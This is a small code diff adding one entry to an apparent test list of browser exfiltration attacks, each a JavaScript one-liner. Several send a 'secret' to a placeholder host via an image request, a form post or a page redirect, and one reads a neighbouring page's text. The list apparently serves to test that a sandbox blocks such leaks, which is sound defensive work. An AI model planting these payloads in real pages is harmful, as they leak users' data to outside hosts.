@@ -148,6 +148,7 @@ ATTACKS: tuple[Attack, ...] = (
     _attack("image_of_the_host", "let i=new Image();i.onload=i.onerror=()=>0;i.src='http://__HOST__/secret'"),
     _attack("form_to_the_host", "f.submit()", body="<form id=f method=post action='http://__HOST__/secret'></form>"),
     _attack("frame_of_the_host", "location.href='http://__HOST__/secret'"),
+    _attack("query_on_its_own_address", "setTimeout(()=>{location.href=location.pathname+'?secret'},200)"),
     _attack(
         "text_of_a_neighbour", "let r=await fetch('__SIBLING__');let t=await r.text();if(t.includes('VICTIM'))win(t)"
     ),
